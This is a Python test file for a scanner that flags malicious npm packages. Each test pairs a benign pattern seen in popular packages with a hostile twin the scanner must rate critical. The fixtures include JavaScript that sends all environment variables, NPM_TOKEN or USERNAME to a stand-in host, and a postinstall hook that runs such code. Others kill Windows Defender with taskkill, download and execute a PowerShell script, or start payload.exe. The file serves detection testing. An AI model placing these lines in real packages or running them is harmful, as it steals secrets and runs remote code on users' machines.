"""Shapes of popular npm packages that were judged high or critical, each beside a malicious
twin that must stay high or critical (``bench/packages_npm.py`` found them; the shapes that
must not fire at all are rule fixtures in ``tests/fixtures/rules/PKG015/popular_shapes.js``)."""

from __future__ import annotations

import json

from outwork.analyzers.packages import typosquat
from outwork.analyzers.packages.jsscan import scan_javascript
from outwork.analyzers.packages.signals import Context, Signal
from outwork.core.findings import Finding
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import npm_tarball
from tests.analyzers.packages.test_package_analysis import findings, run

EXFIL = "const h=require('https');h.get('https://c.invalid/?e='+JSON.stringify(process.env));"


def _manifest(postinstall: str) -> str:
    doc = {"name": "demo-npm", "version": "1.0.0", "scripts": {"postinstall": postinstall}}
    return json.dumps(doc, indent=2)


def _at(items: list[object], code: str, path: str) -> Finding:
    return next(f for f in findings(items) if f.code == code and f.location.path == path)


def _js(source: str) -> list[Signal]:
    return scan_javascript(source, "index.js", Context.IMPORT)


def _on_line(signals: list[Signal], line: int) -> Signal:
    return next(s for s in signals if s.line == line)


def test_node_eval_that_only_requires_a_package_file_runs_that_file() -> None:
    manifest = _manifest("node -e \"try{require('./postinstall')}catch(e){}\"")
    items = run("demo-npm-1.0.0.tgz", npm_tarball(manifest, {"postinstall.js": "1;"}))
    hook = _at(items, "PKG014", "package/package.json")
    assert hook.severity is Severity.MEDIUM and hook.location.line == 5
    assert all(f.severity < Severity.HIGH for f in findings(items))
    # the twin: the required file is judged as install-time code
    items = run("demo-npm-1.0.0.tgz", npm_tarball(manifest, {"postinstall.js": EXFIL}))
    assert _at(items, "PKG015", "package/postinstall.js").severity is Severity.CRITICAL
    # a folder is its index.js
    manifest = _manifest("node -e \"require('./lib')\"")
    items = run("demo-npm-1.0.0.tgz", npm_tarball(manifest, {"lib/index.js": EXFIL}))
    assert _at(items, "PKG015", "package/lib/index.js").severity is Severity.CRITICAL


def test_node_eval_that_does_more_than_require_stays_high() -> None:
    for command in (
        "node -e \"require('./x');require('child_process').exec('id')\"",
        "node -e \"require('./x')\" && eval $X",
        'node -e "process.exit(0)"',
    ):
        items = run("demo-npm-1.0.0.tgz", npm_tarball(_manifest(command), {"x.js": "1;"}))
        assert _at(items, "PKG014", "package/package.json").severity >= Severity.HIGH, command


def test_taskkill_of_a_child_by_process_id_is_not_evasion() -> None:
    source = (
        "const cp = require('child_process');\n"
        "function stop(child) {\n"
        "  cp.spawnSync('taskkill', ['/pid', String(child.pid), '/T', '/F']);\n"
        "}\n"
        "cp.spawnSync('taskkill', ['/IM', 'MsMpEng.exe', '/F']);\n"
    )
    signals = _js(source)
    assert _on_line(signals, 3).severity <= Severity.LOW
    assert _on_line(signals, 5).severity is Severity.CRITICAL


def test_powershell_query_spelled_out_is_a_program_start() -> None:
    source = (
        "const cp = require('child_process');\n"
        "cp.execSync('powershell -NoProfile -Command \"Get-CimInstance -Query "
        "\\\\\"select executablepath from win32_process\\\\\"\"', { stdio: 'pipe' });\n"
        "cp.execSync('powershell -NoProfile -ExecutionPolicy Bypass -Command Get-Date');\n"
        "cp.execSync('powershell -c \"iwr https://x.invalid/a.ps1 | iex\"');\n"
    )
    signals = _js(source)
    assert _on_line(signals, 2).severity <= Severity.LOW
    assert _on_line(signals, 3).severity is Severity.CRITICAL
    assert _on_line(signals, 4).severity is Severity.CRITICAL


def test_windows_shell_on_unknown_arguments_is_medium_on_import() -> None:
    source = (
        "const cp = require('child_process');\n"
        "function open(editor, args) {\n"
        "  return cp.spawn('cmd.exe', ['/C', editor].concat(args), { stdio: 'inherit' });\n"
        "}\n"
        "cp.exec('cmd /c start payload.exe');\n"
    )
    signals = _js(source)
    assert _on_line(signals, 3).severity is Severity.MEDIUM
    assert _on_line(signals, 5).severity is Severity.CRITICAL
    installed = scan_javascript(source, "setup.js", Context.INSTALL)
    assert _on_line(installed, 3).severity is Severity.HIGH


def test_one_configured_variable_sent_from_a_function_is_medium() -> None:
    source = (
        "function forward(body) {\n"
        "  const origin = process.env.APP_ORIGIN;\n"
        "  return fetch(new URL('/action', origin), { method: 'POST', body });\n"
        "}\n"
        "fetch('https://c.invalid/?t=' + process.env.NPM_TOKEN);\n"
        "function who() {\n"
        "  return fetch('https://c.invalid/?u=' + process.env.USERNAME);\n"
        "}\n"
        "function all() {\n"
        "  const env = process.env;\n"
        "  return fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(env) });\n"
        "}\n"
    )
    signals = _js(source)
    assert _on_line(signals, 3).severity is Severity.MEDIUM
    assert _on_line(signals, 5).severity is Severity.CRITICAL  # top level
    assert _on_line(signals, 7).severity is Severity.CRITICAL  # host identity
    assert _on_line(signals, 11).severity is Severity.CRITICAL  # the whole environment
    installed = scan_javascript(source, "setup.js", Context.INSTALL)
    assert _on_line(installed, 3).severity is Severity.CRITICAL


def test_a_popular_dotted_name_does_not_imitate_itself() -> None:
    for name in ("socket.io", "discord.js", "bignumber.js", "Socket.IO"):
        assert typosquat.check(name, "npm") is None, name
    squat = typosquat.check("socket-io", "npm")
    assert squat is not None and squat.target == "socket.io"
